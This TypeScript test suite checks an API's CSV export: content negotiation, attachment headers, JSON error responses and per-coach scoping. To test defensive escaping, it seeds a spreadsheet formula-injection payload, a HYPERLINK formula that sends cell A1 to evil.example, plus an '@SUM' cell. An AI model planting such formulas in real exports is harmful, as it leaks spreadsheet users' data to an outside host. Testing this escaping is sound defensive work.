import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { accessLogTable, openSigningKeyFile } from '@coachline/eventstore';
import { csvRecords, findProjection, type ViewTable } from '@coachline/projections';
import { stringify } from 'csv-stringify/sync';
import { SignedHistory } from '../checkpoints/signed-history';
import { openApiDocument } from '../openapi/openapi-document';
import { debriefsTable, plansTable } from '../queries/provider-record-tables';
import { describeApiOnEachEngine } from '../testing/engines';
import { pathOf, wholeProgram } from '../testing/program-script';
import { seed } from '../testing/seed';
import type { TestApi } from '../testing/test-api';

const HOSTILE_STEP = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';

/** Each read with a CSV reading, the file it names, and the table the CLI writes of its JSON answer. */
const READS: ReadonlyArray<readonly [path: string, file: string, table: (answer: never) => ViewTable]> = [
  ['/views/dosage', 'dosage', findProjection('dosage')!.table],
  ['/views/timeline', 'timeline', findProjection('timeline')!.table],
  ['/views/cycles', 'cycles', findProjection('cycles')!.table],
  ['/views/share', 'share', findProjection('share')!.table],
  ['/views/evaluation', 'evaluation', findProjection('evaluation')!.table],
  ['/views/history?stream=provider-p-1', 'history', findProjection('history')!.table],
  ['/providers/p-1/timeline', 'timeline', findProjection('timeline')!.table],
  ['/providers/p-1/debriefs', 'debriefs', debriefsTable],
  ['/providers/p-1/plans', 'plans', plansTable],
  ['/streams/provider-p-1', 'history', findProjection('history')!.table],
  ['/access-log?day=2026-01-15', 'access-log', (answer: { reads: never }) => accessLogTable(answer.reads)],
];

const csvOf = (table: ViewTable): string => stringify(csvRecords(table));

describeApiOnEachEngine('answers as CSV', (open) => {
  let api: TestApi;
  let admin: string;
  const get = (path: string, accept: string | undefined, token = admin) => {
    const request = api.http().get(path).set('Authorization', `Bearer ${token}`);
    return accept === undefined ? request : request.set('Accept', accept);
  };

  let keys: string;

  afterAll(async () => {
    await rm(keys, { recursive: true, force: true });
  });

  beforeAll(async () => {
    keys = await mkdtemp(join(tmpdir(), 'coachline-csv-keys-'));
    const key = await openSigningKeyFile(join(keys, 'keys', 'checkpoint-signing-key'));
    api = await open({ checkpointSigning: { key, everyEvents: 1_000_000, everyMinutes: 60 } });
    admin = await api.token('admin', 'admin-1');
    await seed(api, wholeProgram);
    const planned = await api
      .http()
      .post(pathOf('SetActionPlan', 'p-2'))
      .set('Authorization', `Bearer ${admin}`)
      .send({
        actionPlanId: 'ap-9',
        goals: [{ goalId: 'g-9', practice: 'schedules-routines', description: '@SUM(1+1)*cmd' }],
        steps: [HOSTILE_STEP],
        setOn: '2025-10-01',
      });
    expect(planned.status).toBe(201);
  });

  it.each(READS)('%s as CSV is the table of its JSON answer, as an attachment', async (path, file, table) => {
    const asJson = await get(path, 'application/json');
    expect(asJson.status).toBe(200);
    const asCsv = await get(path, 'text/csv');
    expect(asCsv.status).toBe(200);
    expect(asCsv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(asCsv.headers['content-disposition']).toBe(`attachment; filename="${file}.csv"`);
    expect(asCsv.headers['vary']).toMatch(/Accept/);
    expect(asCsv.text).toBe(csvOf(table(asJson.body as never)));
    expect(asCsv.text.split('\n').length).toBeGreaterThan(1);
  });

  it('writes a cell a spreadsheet would run as text', async () => {
    const response = await get('/providers/p-2/plans', 'text/csv');
    expect(response.status).toBe(200);
    const lines = response.text.trimEnd().split('\n');
    expect(lines[0]).toBe('actionPlanId,setOn,goalId,practice,description,achievedOn,steps');
    expect(lines[1]).toBe(
      `ap-9,2025-10-01,g-9,schedules-routines,'@SUM(1+1)*cmd,,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"`,
    );
  });

  it('answers JSON to no Accept, to */*, and to a reader who prefers JSON', async () => {
    for (const accept of [undefined, '*/*', 'application/json', 'text/csv;q=0.5, application/json']) {
      const response = await get('/views/dosage', accept);
      expect([accept, response.status, response.headers['content-type']]).toEqual([
        accept,
        200,
        'application/json; charset=utf-8',
      ]);
    }
    const csv = await get('/views/dosage', 'application/json;q=0.4, text/csv');
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  });

  it('keeps refusals JSON when CSV is asked for', async () => {
    const invalid = await get('/views/dosage?month=2025-13', 'text/csv');
    expect(invalid.status).toBe(400);
    expect(invalid.headers['content-type']).toMatch(/^application\/json/);
    expect(invalid.body.errors.map((e: { path: string }) => e.path)).toEqual(['query.month']);
    const coach = await api.token('coach', 'c-2');
    const outside = await get('/providers/p-1/plans', 'text/csv', coach);
    expect(outside.status).toBe(403);
    expect(outside.headers['content-type']).toMatch(/^application\/json/);
    const unsigned = await api.http().get('/views/dosage').set('Accept', 'text/csv');
    expect(unsigned.status).toBe(401);
    expect(unsigned.headers['content-type']).toMatch(/^application\/json/);
  });

  it('narrows a coach’s CSV to their reach, as their JSON', async () => {
    const coach = await api.token('coach', 'c-2');
    const asJson = await get('/views/dosage', 'application/json', coach);
    const asCsv = await get('/views/dosage', 'text/csv', coach);
    expect(asCsv.text).toBe(csvOf(findProjection('dosage')!.table(asJson.body)));
    expect(asCsv.text).not.toMatch(/\bp-1\b/);
    expect(asCsv.text).toMatch(/\bp-2\b/);
  });

  it('refuses CSV only (406) on each read the document lists without a CSV answer, never */*', async () => {
    const document = openApiDocument('0.1.0') as unknown as {
      paths: Record<string, { get?: { responses: Record<string, { content?: object }> } }>;
    };
    const withoutCsv = Object.entries(document.paths)
      .filter(([path, item]) => item.get !== undefined && !path.includes('{'))
      .filter(([, item]) => !Object.values(item.get!.responses).some((r) => r.content && 'text/csv' in r.content))
      .map(([path]) => path);
    expect(withoutCsv).toEqual(expect.arrayContaining(['/tokens', '/health', '/docs']));
    // A checkpoint of the seeded program, so that the checkpoint reads find one.
    const signed = await api.app.get(SignedHistory).sign();
    const queries = new Map([['/checkpoints/consistency', `?from=${signed.size}&to=${signed.size}`]]);
    for (const bare of withoutCsv) {
      const path = `${bare}${queries.get(bare) ?? ''}`;
      const refused = await get(path, 'text/csv');
      expect([path, refused.status, refused.body.code]).toEqual([path, 406, 'not-acceptable']);
      expect(refused.headers['content-type']).toMatch(/^application\/json/);
      expect(Object.keys(document.paths[bare]!.get!.responses)).toContain('406');
      const any = await get(path, '*/*');
      expect([path, any.status]).toEqual([path, 200]);
    }
  });
});
